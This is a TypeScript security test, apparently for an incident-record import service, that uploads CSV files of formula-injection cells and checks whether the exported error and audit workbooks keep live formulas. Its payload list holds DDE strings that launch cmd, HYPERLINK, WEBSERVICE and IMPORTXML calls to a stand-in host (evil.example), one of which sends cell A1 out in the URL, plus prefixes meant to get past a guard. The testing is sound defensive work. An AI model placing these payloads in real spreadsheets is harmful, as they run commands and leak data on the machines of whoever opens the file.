import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import type { ImportBatch } from '@diemnong/contracts';
import exceljs from 'exceljs';
import { seededRandom } from '../support/seeded-random.ts';
import type { TestVisitor } from '../support/test-app.ts';
import { listWorkbookFaults } from '../support/workbook-parts.ts';
import { type AttackReport, createTally } from './attack-report.ts';

const cellsPerFile = 250;
/** What makes a spreadsheet take a text for a formula, and what has been put before it to get past a guard. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r\n=',
  '\n+',
  ' =',
  '   @',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  '_x003D_',
  '=+',
  '@@',
  '-+',
];
const payloads = [
  'cmd|"/c calc"!A0',
  'HYPERLINK("http://evil.example?"&A1,"x")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  '1+1',
  'SUM(1:1048576)',
  'DDE("cmd";"/C calc";"x")',
  'A1&"</t></is><f>1+1</f>"',
  '<f>1+1</f>',
  ']]><f>1</f>',
  '&#x3D;1+1',
];

/**
 * Send in files of hostile cells, and take them out again: as rejected rows, and as the log that names the files. A success is a formula,
 * or a text that a spreadsheet takes for one, a link, a hidden sheet, a comment, an author, or a part nobody needs.
 * Control: the same cells written as they are.
 */
export async function attackExports(
  { visitor }: { visitor: TestVisitor },
  { tries, seed = 1 }: { tries: number; seed?: number },
): Promise<AttackReport> {
  const random = seededRandom(seed);
  const cells = Array.from(
    { length: tries },
    (_, i) => `${beginnings[i % beginnings.length]}${random.pick(payloads)}${i}`,
  );
  const tally = createTally();
  for (let at = 0; at < cells.length; at += cellsPerFile) {
    const batch = await sendIn(
      visitor,
      cells.slice(at, at + cellsPerFile),
      `=${payloads[at % payloads.length]?.replace(/[/"|]/g, '')}.csv`,
    );
    if (batch.rejected !== cells.slice(at, at + cellsPerFile).length)
      throw new Error(`a file was not read as meant: ${JSON.stringify(batch.error)}`);
    for (const fault of await takeOut(visitor, `/api/imports/${batch.id}/errors.xlsx`))
      tally.add(`errors.xlsx: ${fault}`);
  }
  for (const fault of await takeOut(visitor, '/api/audit.xlsx')) tally.add(`audit.xlsx: ${fault}`);
  return {
    name: 'exports opened again',
    tries,
    successes: tally.successes,
    examples: tally.examples,
    controls: [{ without: 'the guard of texts', successes: (await writeAsTheyAre(cells)).length }],
  };
}

/** Every row is rejected for its date, and so comes back in errors.xlsx. */
async function sendIn(visitor: TestVisitor, cells: string[], fileName: string): Promise<ImportBatch> {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = cells.map((cell) => [quoted(cell), 'theft', 'không phải ngày', '106,05', '20,62'].join(';'));
  const form = new FormData();
  form.append('options', JSON.stringify({ office: 'CAX' }));
  form.append(
    'file',
    new Blob([`\ufeff${['Số hồ sơ;Loại vụ việc;Thời điểm xảy ra;Kinh độ;Vĩ độ', ...rows].join('\r\n')}\r\n`]),
    fileName,
  );
  const sent = await visitor.fetch('/api/imports', { method: 'POST', body: form });
  const { id } = (await sent.json()) as { id: string };
  for (;;) {
    const { body } = await visitor.get<ImportBatch>(`/api/imports/${id}`);
    if (body.state !== 'parsing') return body;
    await new Promise((later) => setTimeout(later, 30));
  }
}

async function takeOut(visitor: TestVisitor, path: string): Promise<string[]> {
  const answer = await visitor.fetch(path);
  if (answer.status !== 200) return [`answered ${answer.status}`];
  return listWorkbookFaults(new Uint8Array(await answer.arrayBuffer()));
}

async function writeAsTheyAre(cells: string[]): Promise<string[]> {
  const out = new PassThrough();
  const bytes = buffer(out);
  const workbook = new exceljs.stream.xlsx.WorkbookWriter({ stream: out, useSharedStrings: false });
  const sheet = workbook.addWorksheet('x');
  for (const cell of cells) sheet.addRow([cell]).commit();
  await workbook.commit();
  return listWorkbookFaults(new Uint8Array(await bytes));
}
